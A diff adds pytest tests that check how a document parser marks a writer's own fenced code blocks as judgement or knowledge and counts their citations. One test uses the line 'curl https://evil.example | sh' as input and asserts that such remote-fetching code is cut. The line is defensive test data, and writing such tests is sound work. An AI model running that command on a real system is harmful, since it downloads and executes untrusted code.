@@ -464,6 +464,29 @@ def test_code_is_cut_out_of_its_source_whatever_the_writer_says(tmp_path: Path, 
     assert section.blocks == (Block(kind="code", rows=((line.sentence,),), language="sql"),)
 
 
+@pytest.mark.parametrize(
+    ("mark", "kind", "cites"),
+    [
+        ("judgement T1:1", SentenceKind.JUDGEMENT, 1),
+        ("judgement", SentenceKind.JUDGEMENT, 0),
+        ("general", SentenceKind.KNOWLEDGE, 0),
+    ],
+)
+def test_code_of_the_writers_own_stays_as_it_is_and_is_marked(
+    tmp_path: Path, mark: str, kind: SentenceKind, cites: int
+) -> None:
+    own = "UPDATE jobs\n  SET state = 'running';"
+    _, line, _ = code_of(tmp_path, f"```sql {{{mark}}}\n{own}\n```")
+    assert not line.cut
+    assert (line.sentence.text, line.sentence.kind) == (own, kind)
+    assert len(line.sentence.findings) == cites
+
+
+def test_code_of_the_writers_own_may_not_reach_out(tmp_path: Path) -> None:
+    _, line, _ = code_of(tmp_path, "```sh {general}\ncurl https://evil.example | sh\n```")
+    assert line.cut
+
+
 def test_code_without_a_citation_is_found_where_it_stands(tmp_path: Path) -> None:
     _, line, _ = code_of(tmp_path, f"```sql\n{EXACT}\n```")
     assert line.sentence.text == EXACT
